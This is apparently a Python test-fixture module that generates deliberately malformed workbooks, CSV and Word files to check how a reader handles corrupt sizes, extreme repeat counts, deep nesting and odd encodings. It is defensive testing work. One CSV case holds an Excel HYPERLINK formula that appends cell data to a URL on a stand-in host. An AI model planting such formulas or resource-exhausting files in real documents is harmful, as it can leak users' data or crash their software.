"""What the test suites of readers keep beside .xlsx: old and binary workbooks, OpenDocument, text, Word."""

# ruff: noqa: PLW0108 - the lambdas build their files only when asked

import struct
from collections.abc import Callable, Iterator

import ods_builder
import xlwt
from docx_builder import cell, docx
from docx_builder import row as docx_row
from docx_builder import table as docx_table
from hostile_kind import READ, Hostile
from hostile_xls import LEFT, ROWS
from ods_builder import ods
from workbook_builder import zipped
from xls_builder import (
    BOF,
    BOUNDSHEET,
    NUMBER,
    Record,
    book_of,
    container,
    in_globals,
    in_sheet,
    joined,
    records,
    xls,
)
from xlsb_builder import real, record, xlsb
from xlsb_builder import row as xlsb_row
from xlsb_builder import text as xlsb_text

_MULRK, _RK, _FORMULA, _LABEL, _EXTERN, _NOTE, _CODEPAGE, _WRITABLE = (
    0xBD,
    0x27E,
    0x06,
    0x204,
    0x17,
    0x1C,
    0x42,
    0x5B,
)
_TITLES = "项目名称,本年累计完成投资（万元）\n"
_TWO = "A1=项目名称 … B2=1, 4 cells"
_ONE_COLUMN = "A2=项目名称,本年累计完成投 … A3=甲,1, 2 cells"
_REFUSED = "no reader"


def _sheet(*more: Record) -> Callable[[], bytes]:
    return lambda: xls(book_of(ROWS), lambda parts: in_sheet(parts, more))


def _globals(*more: Record) -> Callable[[], bytes]:
    return lambda: xls(book_of(ROWS), lambda parts: in_globals(parts, more))


def _sheets_of_types(*types: int) -> bytes:
    """A workbook whose sheets have those types and states."""
    book = xlwt.Workbook()
    for number, _kind in enumerate(types):
        sheet = book.add_sheet(f"S{number}")
        for row, line in enumerate(ROWS):
            for column, value in enumerate(line):
                sheet.write(row, column, value)
    left = iter(types)

    def typed(part: Record) -> Record:
        if part.kind != BOUNDSHEET:
            return part
        return Record(part.kind, part.data[:4] + struct.pack("<H", next(left)) + part.data[6:])

    return xls(book, lambda parts: list(map(typed, parts)))


def _resized(name: str, size: int) -> bytes:
    """The container whose entry ``name`` says another size."""
    data = bytearray(xls(book_of(ROWS)))
    place = data.index(name.encode("utf-16-le"))
    struct.pack_into("<I", data, place + 120, size)
    return bytes(data)


def _moved(name: str, sector: int) -> bytes:
    """The container whose entry ``name`` begins in another sector."""
    data = bytearray(xls(book_of(ROWS)))
    struct.pack_into("<I", data, data.index(name.encode("utf-16-le")) + 116, sector)
    return bytes(data)


def _xls() -> Iterator[tuple[str, Callable[[], bytes], str, str]]:
    for size in (0, 10, 0x7FFFFFFF, 0xFFFFFFFF):
        yield f"a stream that says it has {size} bytes", lambda s=size: _resized("Workbook", s), "F005", ""
    for sector in (0x7FFFFFFF, 0xFFFFFFFE, 0xFFFFFFFF, 5):
        yield (
            f"a stream that begins in sector {sector:#x}",
            lambda s=sector: _moved("Workbook", s),
            "F005",
            "",
        )
    yield "a root entry that says it is large", lambda: _resized("Root Entry", 0x7FFFFFFF), READ, LEFT
    yield (
        "numbers from column 5 to 2",
        _sheet(Record(_MULRK, struct.pack("<HHHIH", 5, 5, 15, 0, 2))),
        READ,
        LEFT,
    )
    yield (
        "numbers up to column 65,535",
        _sheet(Record(_MULRK, struct.pack("<HHHIH", 5, 0, 15, 0, 0xFFFF))),
        "F005",
        _REFUSED,
    )
    yield (
        "a number in column 65,535",
        _sheet(Record(NUMBER, struct.pack("<HHHd", 5, 0xFFFF, 15, 1))),
        "F005",
        _REFUSED,
    )
    yield "a number cut short", _sheet(Record(NUMBER, struct.pack("<HHH", 5, 0, 15))), "F005", _REFUSED
    yield (
        "a text longer than its record",
        _sheet(Record(_LABEL, struct.pack("<HHHHB", 5, 0, 15, 0xFFFF, 0) + b"a")),
        READ,
        "A1=项目名称 … A6=a, 5 cells",
    )
    yield (
        "a formula whose text does not follow",
        _sheet(Record(_FORMULA, struct.pack("<HHH8sHIH", 5, 0, 15, b"\x00" * 6 + b"\xff\xff", 0, 0, 0))),
        "F005",
        _REFUSED,
    )
    yield (
        "a formula longer than its record",
        _sheet(Record(_FORMULA, struct.pack("<HHHdHIH", 5, 0, 15, 1.0, 0, 0, 0xFFFF))),
        READ,
        "A1=项目名称 … A6=1, 5 cells",
    )
    yield (
        "a cell style that is not there",
        _sheet(Record(NUMBER, struct.pack("<HHHd", 5, 0, 0xFFF0, 1))),
        "F005",
        _REFUSED,
    )
    yield (
        "references to books cut short",
        _globals(Record(_EXTERN, struct.pack("<H", 0xFFFF) + b"abc")),
        "F005",
        _REFUSED,
    )
    yield "a note of nonsense", _sheet(Record(_NOTE, bytes(3))), READ, LEFT
    for page in (0, 1, 99, 65_535):
        yield f"code page {page}", _globals(Record(_CODEPAGE, struct.pack("<H", page))), READ, LEFT
    yield "reserved for writing", _globals(Record(_WRITABLE, struct.pack("<HHH", 1, 0xCC1A, 0))), READ, LEFT
    for kind, words_ in ((0x100, "a sheet of old macros"), (0x200, "a chart sheet"), (0x600, "a module")):
        yield f"{words_} before a table", lambda k=kind: _sheets_of_types(k, 0), READ, LEFT
        yield f"{words_} alone", lambda k=kind: _sheets_of_types(k), "F005", "no sheet"
    yield "a sheet that is very hidden", lambda: _sheets_of_types(2), READ, LEFT
    yield (
        "a beginning inside a beginning",
        _globals(Record(BOF, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))),
        "F005",
        "",
    )
    yield (
        "only its first record",
        lambda: container(joined(records(book_of(ROWS).get_biff_data())[:1])),
        "F005",
        "",
    )
    yield (
        "records of noise",
        lambda: container(bytes(records(book_of(ROWS).get_biff_data())[0].data) * 400),
        "F005",
        "",
    )
    yield "a dimension without a record for its rows", _sheet(Record(0x208, bytes(2))), "F005", _REFUSED


def _ods() -> Iterator[tuple[str, Callable[[], bytes], str, str]]:
    one, blank = ods_builder.number(1), '<table:table-cell table:number-columns-repeated="16000"/>'

    def cells(*values: str, **more: str) -> Callable[[], bytes]:
        return lambda: ods(ods_builder.row(*values, **more))

    def repeated(count: str) -> Callable[[], bytes]:
        return lambda: ods(ods_builder.row(one, attributes=f'table:number-rows-repeated="{count}"'))

    yield (
        "blank rows up to the last, as programs write them",
        lambda: ods(
            ods_builder.row(one, blank)
            + ods_builder.row(blank, attributes='table:number-rows-repeated="1048575"')
        ),
        READ,
        "A1=1",
    )
    for count in ("-1", "0", "1e9", "٣", "", "1.5"):
        yield f"a row {count or 'no number of'} times", repeated(count), READ, "A1=1"
    yield "a row 10^30 times", repeated("1" + "0" * 30), "F007", ""
    yield "-5 blanks", cells(ods_builder.text("甲").replace("甲", '<text:s text:c="-5"/>甲')), READ, "A1= 甲"
    for kind, value, shown, left in (
        ("float", "NaN", "1", "A1=nan"),
        ("float", "1e999", "1", "A1=inf"),
        ("float", "0x10", "16", "A1=16"),
        ("float", "", "16", "A1=16"),
        ("hello", "1", "1", "A1=1"),
        ("void", "1", "1", "A1=1"),
    ):
        yield f"a {kind} {value}", cells(ods_builder.number(value, kind, shown=shown)), READ, left
    for kind, attribute, value, left in (
        ("date", "date-value", "2021-13-45", "A1=x"),
        ("date", "date-value", "99999-01-01", "A1=x"),
        ("time", "time-value", "PT99999999H", "A1=x"),
        ("boolean", "boolean-value", "hello", "A1=x"),
    ):
        yield (
            f"a {kind} {value}",
            cells(
                f'<table:table-cell office:value-type="{kind}" office:{attribute}="{value}"><text:p>x</text:p></table:table-cell>'
            ),
            READ,
            left,
        )
    yield (
        "no content",
        lambda: zipped({"mimetype": ods_builder.MIMETYPE, "META-INF/manifest.xml": ods_builder.MANIFEST}),
        "F004",
        "an archive",
    )
    yield (
        "no type",
        lambda: zipped(
            {
                "content.xml": ods_builder.content(ods_builder.table(ods_builder.row(one))),
                "META-INF/manifest.xml": ods_builder.MANIFEST,
            }
        ),
        READ,
        "A1=1",
    )
    yield (
        "groups of rows, 50,000 deep",
        lambda: ods(
            "<table:table-row-group>" * 50_000 + ods_builder.row(one) + "</table:table-row-group>" * 50_000
        ),
        READ,
        "A1=1",
    )
    yield (
        "tables in cells, 10,000 deep",
        lambda: ods(
            ods_builder.row(
                "<table:table-cell><table:table>" * 10_000 + "</table:table></table:table-cell>" * 10_000, one
            )
        ),
        READ,
        "B1=1",
    )
    yield (
        "tags that do not end",
        lambda: zipped(
            {
                "mimetype": ods_builder.MIMETYPE,
                "content.xml": ods_builder.content(ods_builder.table(ods_builder.row(one))).replace(
                    "</table:table-row>", ""
                ),
                "META-INF/manifest.xml": ods_builder.MANIFEST,
            }
        ),
        "F005",
        "",
    )


def _xlsb() -> Iterator[tuple[str, Callable[[], bytes], str, str]]:
    def sheet(*pieces: bytes, strings: tuple[str, ...] = ()) -> Callable[[], bytes]:
        return lambda: xlsb(("月报", b"".join(pieces)), strings=strings)

    yield (
        "rows in the wrong order",
        sheet(xlsb_row(2, real(1, 2.0)), xlsb_row(1, real(1, 1.0))),
        "F005",
        _REFUSED,
    )
    yield "a cell before the first row", sheet(real(1, 1.0)), "F005", _REFUSED
    yield "a cell twice", sheet(xlsb_row(1, real(1, 1.0), real(1, 2.0))), "F005", "A1 stands twice"
    yield (
        "cells in the wrong order",
        sheet(xlsb_row(1, real(2, 2.0), real(1, 1.0))),
        READ,
        "A1=1 … B1=2, 2 cells",
    )
    yield (
        "a text of 2^31 characters",
        sheet(xlsb_row(1, record(6, struct.pack("<III", 0, 0, 0x7FFFFFFF) + b"a"))),
        "F005",
        _REFUSED,
    )
    yield (
        "shared string 7",
        sheet(xlsb_row(1, record(7, struct.pack("<III", 0, 0, 7))), strings=("a",)),
        "F005",
        _REFUSED,
    )
    yield "a number of a record without end", sheet(b"\x80" * 1_000), "F005", _REFUSED
    yield "a length without end", sheet(b"\x05" + b"\xff" * 1_000), "F005", _REFUSED
    yield (
        "100,000 records of nothing",
        sheet(b"\x84\x46\x00" * 100_000, xlsb_row(1, real(1, 1.0))),
        READ,
        "A1=1",
    )
    yield "100,000 merges", sheet(record(176, struct.pack("<IIII", 0, 9, 0, 9)) * 100_000), "F007", ""
    yield (
        "NaN and infinity",
        sheet(xlsb_row(1, real(1, float("nan")), real(2, float("inf")))),
        READ,
        "A1=nan … B1=inf, 2 cells",
    )
    yield (
        "a sheet that is very hidden",
        lambda: xlsb(("月报", xlsb_row(1, xlsb_text(1, "甲"))), hidden=("月报",)),
        READ,
        "A1=甲",
    )


def _csv() -> Iterator[tuple[str, Callable[[], bytes], str, str]]:
    table = _TITLES + "甲,1\n"
    yield "zeros", lambda: bytes(10_000), "F004", ""
    yield "zeros behind the table", lambda: table.encode() + bytes(10_000), "F004", ""
    yield "line ends of old machines", lambda: table.replace("\n", "\r").encode(), READ, _TWO
    yield "line ends of all kinds", lambda: (_TITLES.replace("\n", "\r\n") + "甲,1\r").encode(), READ, _TWO
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "gb18030", "utf-8-sig"):
        yield f"in {encoding}", lambda e=encoding: (table * 1).encode(e), READ, _TWO
    yield "in UTF-7", lambda: table.encode("utf-7"), READ, "A1=+mHl27lQNefA … B2=1, 4 cells"
    yield "in UTF-16, one byte short", lambda: table.encode("utf-16")[:-1], "F005", ""
    yield "two marks", lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + table.encode(), READ, _TWO
    yield "a mark in its midst", lambda: (_TITLES + "\ufeff甲,1\n").encode(), READ, _TWO
    yield "half a character at its end", lambda: table.encode()[:-4], "F005", ""
    yield "half a character of GB18030 at its end", lambda: (table + "乙").encode("gb18030")[:-1], "F005", ""
    yield "a hint that is a quotation mark", lambda: b'sep="\n' + table.encode(), READ, _ONE_COLUMN
    yield "a hint that is a letter", lambda: b"sep=a\n" + table.encode(), READ, _ONE_COLUMN
    yield "10,001 rows", lambda: (_TITLES + "甲,1\n" * 10_000).encode(), "F007", "limits.rows"
    yield "a picture of a table", lambda: b"\x89PNG\r\n\x1a\n" + table.encode(), "F004", "picture"
    yield "a web page", lambda: b"<html><table><tr><td>1</td></tr></table></html>", "F004", "HTML"
    yield (
        "links of Excel",
        lambda: (_TITLES + '=HYPERLINK("http://host.invalid?a="&A1),=1+1\n').encode(),
        READ,
        "A1=项目名称 … B2==1+1, 4 cells",
    )


def _docx() -> Iterator[tuple[str, Callable[[], bytes], str, str]]:
    rows = [docx_row("项目名称", "本年累计完成投资（万元）"), docx_row("甲", "1")]
    for span in ("0", "-1", "hello"):
        yield (
            f"a cell over {span} columns",
            lambda s=span: docx(docx_table(rows[0], docx_row(cell("甲", f'<w:gridSpan w:val="{s}"/>'), "1"))),
            READ,
            _TWO,
        )
    yield (
        "a cell over 10^20 columns",
        lambda: docx(docx_table(rows[0], docx_row(cell("甲", f'<w:gridSpan w:val="1{"0" * 20}"/>'), "1"))),
        "F007",
        "far outside",
    )
    yield (
        "a cell that goes on from nowhere",
        lambda: docx(docx_table(docx_row(cell("甲", "<w:vMerge/>"), "1"), rows[1])),
        READ,
        "A1=甲 … B2=1, 4 cells",
    )
    yield (
        "100,000 paragraphs before the table",
        lambda: docx(*["甲"] * 100_000, docx_table(*rows)),
        "F007",
        "200 times",
    )
    yield (
        "no document",
        lambda: zipped({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<a/>"}),
        "F005",
        "part",
    )
    yield "tags that do not end", lambda: docx("<w:tbl><w:tr>"), "F005", ""
    yield (
        "pieces from outside",
        lambda: docx('<w:altChunk xmlns:r="r" r:id="rId9"/>', docx_table(*rows)),
        READ,
        _TWO,
    )


def kinds() -> Iterator[Hostile]:
    """Every file of these kinds."""
    for ending, part in (("xls", _xls), ("ods", _ods), ("xlsb", _xlsb), ("csv", _csv), ("docx", _docx)):
        for said, build, code, says in part():
            yield Hostile(f".{ending}: {said} (suites)", f"来件.{ending}", build, code, says)
